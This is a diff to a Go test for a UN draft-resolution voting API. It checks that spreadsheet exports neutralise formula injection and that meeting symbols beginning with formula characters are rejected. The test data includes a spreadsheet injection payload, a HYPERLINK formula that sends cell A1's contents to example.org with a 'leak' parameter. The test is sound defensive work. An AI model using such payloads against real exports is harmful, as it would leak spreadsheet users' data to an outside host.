@@ -180,10 +180,11 @@ func send(t *testing.T, srv *server, method, path string, body any) (int, string
 	return res.StatusCode, string(out)
 }
 
-// TestUNDLExportNeutralisesFormulas records drafts whose title, topic and
-// meeting start with what a spreadsheet runs as a formula, exports them
-// through the real router, and imports the file again: the cells are
-// written behind one quote, and read back as they were.
+// TestUNDLExportNeutralisesFormulas records drafts whose title and topic
+// start with what a spreadsheet runs as a formula, exports them through
+// the real router, and imports the file again: the cells are written
+// behind one quote, and read back as they were. A meeting is a meeting
+// record's symbol, so one that starts a formula is refused.
 func TestUNDLExportNeutralisesFormulas(t *testing.T) {
 	t.Parallel()
 	dir := t.TempDir()
@@ -195,13 +196,17 @@ func TestUNDLExportNeutralisesFormulas(t *testing.T) {
 	votes["CHN"], votes["RUS"] = "no", "no"
 	starts := []string{"=", "+", "-", "@", "\t", "\r"}
 	for i, s := range starts {
-		title, topic, meeting := s+`HYPERLINK("http://example.org/?leak="&A1, "click")`, s+"1+1", fmt.Sprintf("%sS/PV.%d", s, 6711+i)
+		title, topic, meeting := s+`HYPERLINK("http://example.org/?leak="&A1, "click")`, s+"1+1", fmt.Sprintf("S/PV.%d", 6711+i)
 		code, body := send(t, srv, "POST", "/v1/drafts", map[string]any{"title": title, "topic": topic, "introduced_on": "2012-02-01"})
 		if code != 201 {
 			t.Fatalf("draft %q: %d %s", title, code, body)
 		}
 		var d struct{ ID int64 }
 		json.Unmarshal([]byte(body), &d)
+		code, body = send(t, srv, "PUT", fmt.Sprintf("/v1/drafts/%d/vote", d.ID), map[string]any{"voted_on": "2012-02-04", "meeting": s + meeting, "votes": votes})
+		if code != 422 || !strings.Contains(body, `"field":"meeting"`) {
+			t.Fatalf("vote at meeting %q: %d %s", s+meeting, code, body)
+		}
 		code, body = send(t, srv, "PUT", fmt.Sprintf("/v1/drafts/%d/vote", d.ID), map[string]any{"voted_on": "2012-02-04", "meeting": meeting, "votes": votes})
 		if code != 201 && code != 200 {
 			t.Fatalf("vote on %q: %d %s", title, code, body)
@@ -221,7 +226,7 @@ func TestUNDLExportNeutralisesFormulas(t *testing.T) {
 		}
 	}
 	for i, s := range starts {
-		for _, want := range []string{"'" + s + `HYPERLINK("http://example.org/?leak="&A1, "click")`, "'" + s + "1+1", fmt.Sprintf("'%sS/PV.%d", s, 6711+i)} {
+		for _, want := range []string{"'" + s + `HYPERLINK("http://example.org/?leak="&A1, "click")`, "'" + s + "1+1", fmt.Sprintf("S/PV.%d", 6711+i)} {
 			if !cells[want] {
 				t.Errorf("no cell %q in the export:\n%s", want, first)
 			}
@@ -242,7 +247,7 @@ func TestUNDLExportNeutralisesFormulas(t *testing.T) {
 		got[v.Title+"|"+v.Topic+"|"+v.Meeting] = true
 	}
 	for i, s := range starts {
-		want := s + `HYPERLINK("http://example.org/?leak="&A1, "click")` + "|" + s + "1+1" + "|" + fmt.Sprintf("%sS/PV.%d", s, 6711+i)
+		want := s + `HYPERLINK("http://example.org/?leak="&A1, "click")` + "|" + s + "1+1" + "|" + fmt.Sprintf("S/PV.%d", 6711+i)
 		if !got[want] {
 			t.Errorf("not read back: %q; read %v", want, got)
 		}
